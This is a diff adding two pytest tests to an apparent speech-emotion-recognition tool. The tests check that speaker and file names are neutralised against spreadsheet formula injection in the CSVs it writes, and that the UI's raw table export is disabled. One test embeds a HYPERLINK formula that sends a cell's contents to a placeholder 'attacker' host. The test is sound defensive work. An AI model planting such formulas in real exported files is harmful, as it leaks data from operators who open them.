@@ -585,3 +585,48 @@ def test_only_the_starter_or_the_operator_sees_stop_on_a_training(own_models_fol
     next(b for b in at.button if "Stop training" in b.label).click().run()
     no_exception(at)
     assert (staging / "STOP").is_file()
+
+
+def test_a_formula_in_a_speaker_or_file_name_is_text_in_every_csv_ser_writes(tmp_path):
+    # issue 22 item 12: cells starting with = + - @ went raw into the CSVs an operator opens in a spreadsheet
+    import csv
+    import io
+    import zipfile
+
+    import numpy as np
+
+    from ser import EMOTIONS
+    from ser.evaluate import read_results, write_report
+    from ser.importing import plan_labels, preview, save_dataset, unpack
+    from ser.labels import read_labels
+
+    evil = '=HYPERLINK("http://attacker/?"&A1,"click")'
+    clip = next(DEMO.rglob("*.wav")).read_bytes()
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("a.wav", clip)
+        z.writestr("-b.wav", clip)
+        z.writestr("all_labels.csv", f'path,emotion,speaker\na.wav,sad,"{evil.replace(chr(34), chr(34) * 2)}"\n'
+                                     "-b.wav,happy,@anna\n")
+    unpacked = unpack(buf.getvalue(), datasets_dir=tmp_path, name="up.zip")
+    saved = save_dataset(unpacked, preview(unpacked, plan_labels(unpacked))["labels"], name="evil",
+                         datasets_dir=tmp_path)
+    write_report(tmp_path / "m", paths=["-b.wav", evil], y_true=["sad", "happy"], probs=np.eye(8)[:2],
+                 emotions=EMOTIONS)
+    for f in (saved / "all_labels.csv", tmp_path / "m" / "predictions.csv"):
+        with open(f, newline="") as handle:
+            cells = [c for row in csv.reader(handle) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], f.name
+    labels = read_labels(saved / "all_labels.csv")  # ser reads its own files back as they were
+    assert set(labels["speaker"]) == {evil, "@anna"} and set(labels["path"]) == {"a.wav", "-b.wav"}
+    assert list(read_results(tmp_path / "m")["predictions"]["path"]) == ["-b.wav", evil]
+
+
+def test_the_tables_built_in_csv_export_is_off():
+    # issue 22 item 12: st.dataframe's toolbar downloads (and copies) the shown cells raw, formulas included
+    import tomllib
+
+    from tests.conftest import REPO
+
+    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
+    assert config["client"]["disableDataExport"] is True
